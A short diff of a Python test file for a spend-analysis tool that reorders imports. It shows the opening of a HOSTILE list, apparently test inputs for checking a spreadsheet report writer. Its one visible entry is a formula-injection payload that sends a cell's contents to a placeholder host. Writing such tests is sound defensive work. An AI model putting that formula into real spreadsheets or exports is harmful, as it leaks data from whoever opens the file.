@@ -10,11 +10,11 @@ import openpyxl
 import pytest
 from spend_fixtures import AS_OF, canonical_frame, write_rule_files
 
+from spendanalys.io.result import RejectedRow
+from spendanalys.spend.analysis import analyse_spend
 from spendanalys.spend.categories import load_category_rules
 from spendanalys.spend.factors import load_kpi, load_spend_factor_set
-from spendanalys.io.result import RejectedRow
 from spendanalys.spend.report import write_spend_report
-from spendanalys.spend.analysis import analyse_spend
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")',
